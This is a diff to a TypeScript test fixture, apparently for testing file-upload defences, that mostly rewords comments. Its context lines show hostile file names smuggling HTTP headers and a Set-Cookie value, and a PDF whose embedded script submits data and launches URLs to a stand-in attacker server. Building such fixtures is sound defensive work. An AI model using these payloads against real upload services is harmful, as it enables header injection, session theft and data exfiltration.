@@ -1,4 +1,4 @@
-/** A file that somebody uploads to do harm with. */
+/** A file that is uploaded to do harm. */
 export interface HostileFile {
   readonly name: string
   /** The type that its sender names. */
@@ -8,7 +8,10 @@ export interface HostileFile {
   readonly acts?: true
 }
 
-/** The attempts of each file: to report that it runs, to send what it sees to another server, and to make requests in its reader's name. */
+/**
+ * The attempts of each file: to report that it runs, to send what it sees to another server, and to make requests in its
+ * reader's name.
+ */
 function scriptFor(evil: string): string {
   return [
     `console.log('it ran')`,
@@ -92,7 +95,7 @@ export function hostileFiles(evil: string): HostileFile[] {
   ]
 }
 
-/** Names that mean something to headers, pages, paths or readers. */
+/** Names that have a meaning in headers, pages, paths or for readers. */
 const HOSTILE_NAMES: readonly string[] = [
   'a"\r\nContent-Type: text/html\r\nX: ".png',
   'a\nSet-Cookie: sessionid=theirs\n.html',
@@ -110,7 +113,7 @@ const HOSTILE_NAMES: readonly string[] = [
   `${'long'.repeat(60)}.html`,
 ]
 
-/** Opens a dialogue and asks another server, when it is shown. */
+/** A PDF that opens a dialogue and calls another server when it is shown. */
 function pdfThatActs(evil: string): string {
   const script = `app.alert("it ran"); this.submitForm("${evil}/submit"); app.launchURL("${evil}/launch");`
   const objects = [
